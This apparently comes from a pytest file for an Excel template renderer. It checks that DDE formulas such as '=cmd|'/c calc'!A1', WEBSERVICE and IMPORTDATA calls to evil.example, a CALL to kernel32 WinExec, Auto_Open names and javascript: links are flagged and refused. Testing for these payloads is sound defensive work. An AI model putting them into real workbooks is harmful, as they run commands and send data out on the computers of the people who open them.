"""Formulas, parts and names of a workbook template that reach outside: each a finding, and never in a workbook."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from reviewkit.render.excel import ExcelTemplate, Link
from reviewkit.render.excel.template.outside_formulas import formula_fault
from reviewkit.render.word.word_errors import TemplateError
from tests.render.excel.template.drawnbooks import drawn, part, with_part

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def related(kind, target, *, external=False, owner=BOOK_RELATIONS, parts=()):
    """A template with one relationship more, of the workbook or of its sheet, and further parts."""
    mode = ' TargetMode="External"' if external else ""
    prefix = kind if kind.startswith("http") else f"{R}/{kind}"
    relation = f'<Relationship Id="rIdX" Type="{prefix}" Target="{target}"{mode}/>'
    data = drawn({"S": {"A1": "{{ x }}"}})
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
        for info in old.infolist():
            body = old.read(info)
            if info.filename == owner:
                body = body.replace(b"</Relationships>", f"{relation}</Relationships>".encode())
            new.writestr(info, body)
        if owner not in old.namelist():
            new.writestr(owner, RELATIONS.format(relation))
        for name, content in parts:
            new.writestr(name, content)
    return stream.getvalue()


def in_sheet(xml):
    """A template whose sheet ends in this XML."""
    return with_part(
        drawn({"S": {"A1": "{{ x }}"}}),
        SHEET,
        lambda text: text.replace("</worksheet>", f"{xml}</worksheet>"),
    )


def with_formula(formula):
    return drawn({"S": {"A1": "{{ x }}", "B2": formula}})


def with_name(name, value, **attributes):
    book = openpyxl.Workbook()
    book.active["A1"] = "{{ x }}"
    book.defined_names[name] = DefinedName(name, attr_text=value, **attributes)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def drawn_with(draw):
    return drawn({"S": {"A1": "{{ x }}"}}, lambda book: draw(book.worksheets()[0]))


CELL = "sheet “S”, cell B2"
TEMPLATES = {
    "DDE": (with_formula("=cmd|'/c calc'!A1"), "unsafe-formula", CELL),
    "DDE in a sum": (with_formula("=1+excel|book!A1"), "unsafe-formula", CELL),
    "WEBSERVICE": (with_formula('=_xlfn.WEBSERVICE("http://evil.example/"&A1)'), "unsafe-formula", CELL),
    "IMAGE": (with_formula('=_xlfn.IMAGE("http://evil.example/p.png")'), "unsafe-formula", CELL),
    "a link from a cell": (with_formula('=HYPERLINK(A1,"x")'), "unsafe-formula", CELL),
    "a link from a text and a cell": (with_formula('=HYPERLINK("https://x/"&A1,"x")'), "unsafe-formula", CELL),
    "a link to a file": (with_formula('=HYPERLINK("file://evil.example/x","x")'), "unsafe-formula", CELL),
    "a link within a condition": (with_formula('=IF(A1=1, hyperlink (A1,"x"),"")'), "unsafe-formula", CELL),
    "IMPORTDATA": (with_formula('=IMPORTDATA("http://evil.example/")'), "unsafe-formula", CELL),
    "IMPORTRANGE": (with_formula('=IMPORTRANGE("http://evil.example/","A1")'), "unsafe-formula", CELL),
    "RTD": (with_formula('=RTD("prog.id","","x")'), "unsafe-formula", CELL),
    "CALL": (with_formula('=CALL("kernel32","WinExec","JCJ","calc",0)'), "unsafe-formula", CELL),
    "REGISTER.ID": (with_formula('=REGISTER.ID("x","y")'), "unsafe-formula", CELL),
    "a cube": (with_formula('=CUBEVALUE("c","[m]")'), "unsafe-formula", CELL),
    "an add-in's function": (with_formula("=_xll.BLP(A1)"), "unsafe-formula", CELL),
    "STOCKHISTORY": (with_formula('=_xlfn.STOCKHISTORY("x",1)'), "unsafe-formula", CELL),
    "another workbook by number": (with_formula("=[1]Sheet1!A1"), "external-link", CELL),
    "another workbook by path": (with_formula(r"='\\evil.example\x\[b.xlsx]S'!A1"), "external-link", CELL),
    "another workbook's name": (with_formula("=SUM([1]!Name)"), "external-link", CELL),
    "a name that calls": (with_name("total", 'EXEC("calc")'), "unsafe-formula", "name “total”"),
    "a name of a macro": (with_name("total", "S!A1", xlm=True), "has-macros", "name “total”"),
    "a name run when opened": (with_name("_xlnm.Auto_Open", "Sheet!$A$1"), "has-macros", "name “_xlnm.Auto_Open”"),
    "a validation": (
        drawn_with(lambda sheet: sheet.data_validation("B2", {"validate": "custom", "value": '=WEBSERVICE("x")=1'})),
        "unsafe-formula",
        "sheet “S”",
    ),
    "a conditional format": (
        drawn_with(lambda sheet: sheet.conditional_format("B2", {"type": "formula", "criteria": '=WEBSERVICE("x")=1'})),
        "unsafe-formula",
        "sheet “S”",
    ),
    "another workbook": (related("externalLink", "externalLinks/e.xml"), "external-link", ""),
    "connections": (related("connections", "connections.xml"), "external-link", ""),
    "a query table": (related("queryTable", "../queryTables/q.xml", owner=SHEET_RELATIONS), "external-link", ""),
    "Power Query": (
        related("customXml", "../customXml/item1.xml", parts=[("customXml/item1.xml", "<DataMashup xmlns='x'>AA</DataMashup>")]),
        "external-link",
        "",
    ),
    "the source of a pivot table outside": (
        related("pivotCacheDefinition", "file:///c:/x.xlsx", external=True),
        "external-link",
        "",
    ),
    "a sheet of Excel 4 macros": (
        related("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/s.xml"),
        "has-macros",
        "",
    ),
    "a part of Excel 4 macros": (related("theme", "x.xml", parts=[("xl/macrosheets/s.xml", "<a/>")]), "has-macros", ""),
    "macros": (
        related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        "has-macros",
        "",
    ),
    "an ActiveX control": (related("control", "../activeX/a.xml", owner=SHEET_RELATIONS), "embedded-object", ""),
    "an object": (related("oleObject", "../embeddings/o.bin", owner=SHEET_RELATIONS), "embedded-object", ""),
    "an embedded file": (related("package", "../embeddings/o.docx", owner=SHEET_RELATIONS), "embedded-object", ""),
    "a picture of the web": (
        related("image", "https://evil.example/p.png", external=True, owner=SHEET_RELATIONS),
        "external-link",
        "",
    ),
    "a link to a script": (
        related("hyperlink", "javascript:x", external=True, owner=SHEET_RELATIONS),
        "unsafe-hyperlink",
        "",
    ),
    "a shape that runs a macro": (
        related("drawing", "drawings/d.xml", parts=[("xl/drawings/d.xml", '<a><sp macro="[0]!m"/></a>')]),
        "has-macros",
        "",
    ),
    "a publication": (in_sheet('<webPublishItems><webPublishItem id="1"/></webPublishItems>'), "external-link", "sheet “S”"),
}  # fmt: skip


@pytest.mark.parametrize(("template", "code", "place"), TEMPLATES.values(), ids=TEMPLATES.keys())
def test_what_reaches_outside_is_a_finding_and_never_in_a_workbook(template, code, place):
    template = ExcelTemplate(template)
    assert [(fault.code, fault.place) for fault in template.faults({"x": None})] == [(code, place)]
    with pytest.raises(TemplateError):
        template.render({"x": 1})


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("https://example.org/a?b=1","page")',
        'HYPERLINK("#S!A1","there")',
        "SUM(Table1[Amount])",
        "SUM(Table1[[#This Row],[Amount]])",
        "'a|b'!A1+'it''s'!B2",
        '"=cmd|x!A1 and WEBSERVICE(1)"',
        "IMAGES_OF_ME+1",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        'TEXT(A1,"[$-40C]d mmm")',
    ],
)
def test_formulas_of_the_workbook_itself_stay(formula):
    assert formula_fault(formula) is None


def test_a_link_formula_and_a_link_value_stay():
    template = ExcelTemplate(
        drawn({"S": {"A1": "{{ x }}", "B2": '=HYPERLINK("https://example.org","page")'}})
    )
    workbook = template.render({"x": Link("https://example.org/x")})
    assert 'HYPERLINK("https://example.org"' in part(workbook, SHEET)
    assert "https://example.org/x" in part(workbook, SHEET_RELATIONS)
